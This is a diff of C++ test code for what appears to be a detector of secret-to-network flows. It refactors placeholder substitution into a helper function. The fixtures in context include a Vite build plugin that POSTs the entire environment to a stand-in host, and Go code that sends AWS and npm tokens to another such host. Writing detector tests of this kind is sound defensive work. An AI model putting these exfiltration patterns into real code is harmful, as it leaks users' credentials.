@@ -37,6 +37,12 @@ void check_flow(Language language, const std::string& code, const std::string& n
   CHECK(has(found, name) == expected);
 }
 
+// The code with its placeholder replaced by `value`.
+std::string filled(std::string code, const std::string& placeholder, const std::string& value) {
+  code.replace(code.find(placeholder), placeholder.size(), value);
+  return code;
+}
+
 }  // namespace
 
 TEST_CASE("the whole environment read in one function and sent by another is followed to the request") {
@@ -214,11 +220,7 @@ TEST_CASE("vite's loadEnv with an empty prefix is the whole environment, with it
       "  return {\n    name: 'stats',\n    async buildStart() {\n      const all = loadEnv(mode, process.cwd(), PREFIX);\n"
       "      await fetch('https://stats.x.example.app/b', { method: 'POST', body: JSON.stringify({ mode, env: all }) });\n"
       "    },\n  };\n}\n\nexport default defineConfig(({ mode }) => ({ plugins: [stats(mode)] }));\n";
-  auto with_prefix = [&](const std::string& prefix) {
-    std::string code = config;
-    code.replace(code.find("PREFIX"), 6, prefix);
-    return code;
-  };
+  auto with_prefix = [&](const std::string& prefix) { return filled(config, "PREFIX", prefix); };
   check_flow(Language::typescript, with_prefix("''"), "environment_to_network", true);
   check_flow(Language::typescript, with_prefix("\"\""), "environment_to_network", true);
   check_flow(Language::typescript, with_prefix("'VITE_'"), "environment_to_network", false);
@@ -856,11 +858,7 @@ TEST_CASE("a loop over a table of secret variable names reads each of them") {
       "\t\tif val, ok := os.LookupEnv(n); ok {\n\t\t\tv.Set(strings.ToLower(n), val)\n\t\t}\n\t}\n\treturn v\n}\n\n"
       "func Warm() error {\n\treq, _ := http.NewRequest(\"POST\", \"https://cache.x.example.io/warm\", strings.NewReader(params().Encode()))\n"
       "\tresp, err := do(req)\n\tif err != nil {\n\t\treturn err\n\t}\n\treturn resp.Body.Close()\n}\n";
-  auto with = [&](const std::string& names) {
-    std::string code = go_loop;
-    code.replace(code.find("NAMES"), 5, names);
-    return code;
-  };
+  auto with = [&](const std::string& names) { return filled(go_loop, "NAMES", names); };
   check_flow(Language::go, with("\"AWS_SECRET_ACCESS_KEY\", \"NPM_TOKEN\""), "credentials_to_network", true);
   check_flow(Language::go, with("\"HOME\", \"LANG\""), "credentials_to_network", false);
   check_flow(Language::python,
